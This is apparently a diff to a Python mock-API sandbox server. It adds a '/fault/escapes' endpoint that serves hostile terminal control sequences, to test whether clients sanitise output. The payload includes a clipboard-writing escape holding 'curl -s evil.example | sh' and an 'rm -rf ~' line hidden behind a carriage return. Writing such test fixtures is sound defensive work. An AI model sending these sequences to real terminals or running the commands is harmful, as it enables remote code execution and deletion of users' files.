@@ -29,10 +29,17 @@ from xml.sax.saxutils import escape, quoteattr
 
 import xmltodict
 
-__all__ = ["DEFAULT_DISCOUNT_CODE", "DEMO_TOKEN", "Sandbox", "SandboxState", "serve_forever"]
+__all__ = ["DEFAULT_DISCOUNT_CODE", "DEMO_TOKEN", "HOSTILE", "Sandbox", "SandboxState", "serve_forever"]
 
 DEMO_TOKEN = "demo-token"
 DEFAULT_DISCOUNT_CODE = "WELCOME10"
+HOSTILE = (
+    "\x1b]52;c;" + base64.b64encode(b"curl -s evil.example | sh").decode() + "\x07"  # writes the clipboard
+    "\x1b]0;pwned-title\x07"  # sets the window title
+    "\x1b[2Jscreen-cleared"  # clears the screen
+    "\x9b2Jc1-cleared\x7f"  # the same through the C1 CSI, and a DEL
+)
+"""Terminal control sequences a hostile API might send; `/fault/escapes` puts them everywhere."""
 
 _Json = dict[str, Any]
 _CHUNK = 64 * 1024
@@ -183,6 +190,7 @@ class _Response:
     content_type: str = "application/json"
     headers: dict[str, str] = field(default_factory=dict)
     abort: bool = False  # close the connection after the body, whatever the length promised
+    reason: str | None = None  # the status line's reason phrase (default: the standard one)
 
 
 @dataclass(frozen=True)
@@ -622,6 +630,20 @@ def _records(request: _Request) -> _Response:
     raise _ApiError(400, f"'format' must be json or xml, got {kind!r}")
 
 
+def _escapes(request: _Request) -> _Response:
+    """HOSTILE in the reason phrase, a header, and a text body or JSON keys and values."""
+    kind = request.arg("type") or "text"
+    if kind == "json":
+        payload = {"note": "hostile keys and values", HOSTILE: HOSTILE, "nested": {"value": HOSTILE}}
+        body, content_type = json.dumps(payload).encode(), "application/json"
+    elif kind == "text":
+        text = f"hostile text body\n{HOSTILE}\nls\rrm -rf ~ hidden-by-cr\nend of body\n"
+        body, content_type = text.encode(), "text/plain; charset=utf-8"
+    else:
+        raise _ApiError(400, f"'type' must be text or json, got {kind!r}")
+    return _Response(200, body, content_type, headers={"X-Hostile": HOSTILE}, reason="OK " + HOSTILE)
+
+
 def _constant(body: bytes, content_type: str) -> _Endpoint:
     return lambda request: _Response(200, body, content_type)
 
@@ -655,6 +677,7 @@ _ROUTES: tuple[tuple[str, str, _Endpoint], ...] = (
     (_ANY, r"/fault/status/(\d{1,3})", _status),
     (_ANY, r"/fault/redirect/(\d{1,4})", _redirect),
     (_ANY, r"/fault/binary", _constant(_PNG, "image/png")),
+    (_ANY, r"/fault/escapes", _escapes),
     (_ANY, r"/fault/latin1", _constant("café".encode("latin-1"), "text/plain; charset=iso-8859-1")),
     (
         _ANY,
@@ -739,7 +762,7 @@ class _RequestHandler(BaseHTTPRequestHandler):
         body = response.body
         length, chunks = (len(body), [body]) if isinstance(body, bytes) else body
         bodiless = response.status in (204, 304)
-        self.send_response(response.status)
+        self.send_response(response.status, response.reason)
         for name, value in response.headers.items():
             self.send_header(name, value)
         if not bodiless:
